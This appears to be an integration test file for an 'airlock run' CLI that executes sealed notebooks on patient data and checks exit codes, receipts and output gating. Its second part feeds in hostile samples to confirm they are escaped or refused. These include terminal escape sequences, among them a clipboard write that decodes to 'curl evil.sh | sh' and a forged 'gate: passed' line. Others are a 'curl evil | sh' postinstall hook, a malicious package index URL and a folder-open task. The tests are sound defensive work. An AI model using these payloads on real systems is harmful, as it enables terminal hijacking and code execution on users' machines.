/**
 * `airlock run`, the headless runner: the built app in Chromium driven by the CLI, on the real
 * data, with its exit codes for every outcome.
 */
import { beforeAll, describe, expect, test } from 'vitest';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { sealBundle } from '../../src/lib/bundle/index.ts';
import { formatIdentityFile, generateOwnerKey, generateSshKey, type OwnerKey } from '../../src/lib/crypto/index.ts';
import { verifyReceipt } from '../../src/lib/receipt/index.ts';
import { diabetesCsvPath } from '../unit/fixtures/data.ts';
import { notebookJson } from './fixtures.ts';

const BIN = resolve(import.meta.dirname, '../../bin/airlock.mjs');
let dir: string;
let csv: string;
let owner: OwnerKey;
const expert = generateSshKey('expert');
const ownerSign = generateSshKey('owner');

function airlock(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((done) => {
    const p = spawn(process.execPath, [BIN, ...args], { cwd: dir });
    let stdout = '';
    let stderr = '';
    p.stdout.on('data', (d) => (stdout += d));
    p.stderr.on('data', (d) => (stderr += d));
    p.on('close', (code) => done({ code: code ?? -1, stdout, stderr }));
  });
}

async function bundle(
  file: string,
  cells: string[],
  opts: { recipient?: string; signer?: typeof expert; tables?: string[]; outputs?: string[] } = {},
) {
  const { stream } = await sealBundle({
    recipient: opts.recipient ?? owner.recipient,
    signer: (opts.signer ?? expert).key,
    name: 'readmission',
    version: '1.0',
    notebook: { filename: 'n.ipynb', bytes: new TextEncoder().encode(notebookJson(cells)) },
    wheels: [],
    outputs: opts.outputs ?? ['model.json'],
    tables: opts.tables ?? ['ehr'],
  });
  writeFileSync(join(dir, file), new Uint8Array(await new Response(stream).arrayBuffer()));
  return file;
}

const run = (b: string, out: string, extra: string[] = []) =>
  airlock([
    'run',
    '-i',
    'owner.key',
    '--bundle',
    b,
    '--table',
    `ehr=${csv}`,
    '-o',
    out,
    '--expert',
    'expert.pub',
    ...extra,
  ]);
const MODEL =
  'import airlock, json\nt = airlock.table("ehr")\nprint(len(t), "rows")\nopen(airlock.OUTPUT_DIR + "/model.json", "w").write(json.dumps({"n": len(t)}))';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'airlock-run-'));
  csv = diabetesCsvPath();
  owner = await generateOwnerKey();
  writeFileSync(join(dir, 'owner.key'), formatIdentityFile(owner));
  writeFileSync(join(dir, 'expert.pub'), expert.publicKey);
  writeFileSync(join(dir, 'owner_sign'), ownerSign.privateKey, { mode: 0o600 });
});

describe('airlock run', () => {
  test('approved: the outputs and a receipt the expert can verify; nothing else', async () => {
    const b = await bundle('ok.airlock', [MODEL, 'open("/tmp/elsewhere.txt", "w").write("x")']);
    const r = await run(b, 'out-ok', ['--approve', '--sign', 'owner_sign']);
    expect(r.code, r.stderr + r.stdout).toBe(0);
    expect(r.stdout).toContain('101766 rows');
    expect(r.stdout).toContain('gate: passed');
    expect(readdirSync(join(dir, 'out-ok')).sort()).toEqual(['model.json', 'receipt.json', 'receipt.json.sig']);
    const { readFileSync } = await import('node:fs');
    const receipt = verifyReceipt(
      readFileSync(join(dir, 'out-ok/receipt.json')),
      readFileSync(join(dir, 'out-ok/receipt.json.sig'), 'utf8'),
      { owner: ownerSign.publicKey },
    );
    expect(receipt.tables[0]).toMatchObject({ as: 'ehr', rows: 101_766 });
    expect(receipt.outputs.map((o) => o.path)).toEqual(['model.json']);
  });

  test('not approved: nothing leaves', async () => {
    const r = await run('ok.airlock', 'out-none');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('not approved: nothing was written');
    expect(existsSync(join(dir, 'out-none'))).toBe(false);
  });

  test('--json for machines', async () => {
    const r = await run('ok.airlock', 'out-json', ['--json']);
    const j = JSON.parse(r.stdout);
    expect(j).toMatchObject({ ok: true, exitCode: 0, status: 'ok', gate: { pass: true } });
  });

  test.each([
    ['a notebook that raises', ['raise ValueError("no convergence")'], [], 4, 'ValueError: no convergence'],
    [
      'a notebook that never ends',
      ['while True:\n    pass'],
      ['--timeout', '8'],
      6,
      'did not finish within the time limit',
    ],
    [
      'an output that carries patient numbers',
      [
        'import airlock, json\nopen(airlock.OUTPUT_DIR + "/model.json", "w").write(json.dumps(list(airlock.table("ehr").column("patient_nbr"))[:20]))',
      ],
      ['--approve', '--sign', 'owner_sign'],
      5,
      'identifying columns (ehr.patient_nbr)',
    ],
    [
      'an output over the cap',
      ['import airlock\nopen(airlock.OUTPUT_DIR + "/model.json", "wb").write(b"0" * 2_000_000)'],
      ['--max-output', '1MB'],
      4,
      'larger than the cap',
    ],
  ])('%s', async (_label, cells, extra, code, message) => {
    const b = await bundle(`b${code}.airlock`, cells);
    const r = await run(b, `out-${code}`, extra);
    expect(r.code, r.stdout + r.stderr).toBe(code);
    expect(r.stdout + r.stderr).toContain(message);
    expect(existsSync(join(dir, `out-${code}`))).toBe(false);
  });

  test('bad input: another room, another signer, a missing table', async () => {
    const other = await generateOwnerKey();
    const r1 = await run(await bundle('other-room.airlock', [MODEL], { recipient: other.recipient }), 'o1');
    expect(r1.code).toBe(3);
    expect(r1.stderr).toContain('sealed for another room');
    const r2 = await run(await bundle('other-signer.airlock', [MODEL], { signer: generateSshKey('mallory') }), 'o2');
    expect(r2.code).toBe(3);
    expect(r2.stderr).toContain('not by the expert you trust');
    const r3 = await run(await bundle('needs-labs.airlock', [MODEL], { tables: ['ehr', 'labs'] }), 'o3');
    expect(r3.code).toBe(3);
    expect(r3.stderr).toContain('there is no local table "labs"');
  });
});

/** What a terminal would obey or a reader be misled by: C0 but newline and tab, DEL, C1, bidi and zero-width controls. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;

describe("airlock run: the owner's terminal and disk", () => {
  // A small table with no identifying column, so the outputs below pass the gate on content.
  const SMALL = 'age,readmitted\n50,NO\n50,NO\n60,YES\n60,NO\n';
  const runSmall = (b: string, out: string, extra: string[] = []) =>
    airlock([
      'run',
      '-i',
      'owner.key',
      '--bundle',
      b,
      '--table',
      'ehr=small.csv',
      '-o',
      out,
      '--expert',
      'expert.pub',
      ...extra,
    ]);
  const approve = ['--approve', '--sign', 'owner_sign'];
  /** A notebook cell that writes each file (path → text) into the output folder. */
  const writes = (files: Record<string, string>) =>
    `import airlock, os\nfor p, t in ${JSON.stringify(files)}.items():\n    f = os.path.join(airlock.OUTPUT_DIR, p)\n    os.makedirs(os.path.dirname(f), exist_ok=True)\n    open(f, "w").write(t)`;
  const tree = (d: string): string[] =>
    readdirSync(d, { recursive: true, withFileTypes: true })
      .map((e) => join(e.parentPath, e.name).slice(d.length + 1))
      .sort();

  beforeAll(() => writeFileSync(join(dir, 'small.csv'), SMALL));

  // Python source: each \\x.. below reaches Python as an escape, so the notebook prints the real bytes.
  const HOSTILE_PRINTS = [
    'import sys',
    'print("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07clipboard")',
    'print("\\x1b]0;airlock: gate passed\\x07title")',
    'print("\\x1b[8m")',
    'print("run: ok\\r\\x1b[2K\\x1b[1Agate: passed")',
    'print("c1 \\u009b8m bidi model\\u202egnp.exe zw \\u200b del \\x7f")',
    'sys.stderr.write("\\x1b[8mtripwires: none\\n")',
    'print("gate: passed")',
  ].join('\n');

  test('the notebook cannot drive the terminal or pass for the report: every control shown, every line marked', async () => {
    // The bundle declares model.json but the notebook writes other.json: the real gate blocks it.
    const b = await bundle('terminal.airlock', [HOSTILE_PRINTS, writes({ 'other.json': '{}' })], {
      outputs: ['model.json'],
    });
    const r = await runSmall(b, 'out-term');
    expect(r.code, r.stdout + r.stderr).toBe(5);
    expect(r.stdout + r.stderr).not.toMatch(RAW_CONTROL);
    // Positive control: the notebook did print them, now as escapes.
    expect(r.stdout).toContain('│ \\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007clipboard');
    expect(r.stdout).toContain('│ \\u001b]0;airlock: gate passed\\u0007title');
    expect(r.stdout).toContain('│ run: ok\\u000d\\u001b[2K\\u001b[1Agate: passed');
    expect(r.stdout).toContain('│ c1 \\u009b8m bidi model\\u202egnp.exe zw \\u200b del \\u007f');
    expect(r.stderr).toContain('│ \\u001b[8mtripwires: none');
    // The only line that says what the gate did is the runner's own.
    const lines = r.stdout.split('\n');
    expect(lines.filter((l) => l.startsWith('gate:'))).toEqual(['gate: blocked']);
    expect(lines).toContain('│ gate: passed');

    // --json: valid JSON with nothing raw, which parses back to exactly what the notebook printed.
    const j = await runSmall(b, 'out-term', ['--json']);
    expect(j.stdout).not.toMatch(RAW_CONTROL);
    const logs = JSON.parse(j.stdout).logs.map((l: { text: string }) => l.text);
    expect(logs).toContain('c1 \u009b8m bidi model\u202egnp.exe zw \u200b del \x7f');
    expect(logs).toContain('\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07clipboard');
  });

  test("a project folder: refused before the run; with --force the owner's files are still never replaced", async () => {
    const proj = join(dir, 'project');
    mkdirSync(join(proj, '.vscode'), { recursive: true });
    writeFileSync(join(proj, 'package.json'), '{"name":"mine","scripts":{}}\n');
    writeFileSync(join(proj, 'requirements.txt'), 'numpy==2.0\n');
    writeFileSync(join(proj, '.vscode/settings.json'), '{}\n');
    const before = tree(proj);
    const contents = () =>
      ['package.json', 'requirements.txt', '.vscode/settings.json'].map((p) => readFileSync(join(proj, p), 'utf8'));
    const original = contents();
    const b = await bundle(
      'project.airlock',
      [
        writes({
          'package.json': '{"scripts":{"postinstall":"curl evil | sh"}}',
          'requirements.txt': '--index-url https://evil.example/simple\nnumpy',
        }),
      ],
      { outputs: [] },
    );
    const refused = await runSmall(b, 'project', approve);
    expect(refused.code, refused.stdout + refused.stderr).toBe(7);
    expect(refused.stderr).toContain('is not empty');
    expect(refused.stdout).not.toContain('gate:'); // refused before anything ran
    const forced = await runSmall(b, 'project', [...approve, '--force']);
    expect(forced.code, forced.stdout + forced.stderr).toBe(7);
    expect(forced.stderr).toContain('already holds package.json, requirements.txt');
    expect(tree(proj)).toEqual(before);
    expect(contents()).toEqual(original);
  });

  test.each([
    ['a task that runs when the folder is opened', { '.vscode/tasks.json': '{"tasks":[]}' }, '.vscode'],
    ['an output named like the receipt', { 'receipt.json': '{"forged":true}' }, "the receipt's own name"],
    ['a name longer than file systems allow', { ['é'.repeat(130) + '.json']: '{}' }, 'over 255 bytes'],
  ])('%s: refused, nothing written', async (_label, files, message) => {
    const b = await bundle(
      `disk-${Object.keys(files)[0]!.length}.airlock`,
      [writes({ 'model.json': '{}', ...files })],
      {
        outputs: [],
      },
    );
    const out = `out-disk-${Object.keys(files)[0]!.length}`;
    const r = await runSmall(b, out, approve);
    expect(r.code, r.stdout + r.stderr).toBe(7);
    expect(r.stdout).toContain('gate: passed'); // the gate had nothing against it; the disk writer refused
    expect(r.stderr).toContain(message);
    expect(r.stderr).toContain('nothing was written');
    expect(existsSync(join(dir, out))).toBe(false);
    expect(readdirSync(dir).filter((n) => n.startsWith('.airlock-export-'))).toEqual([]);
  });
});
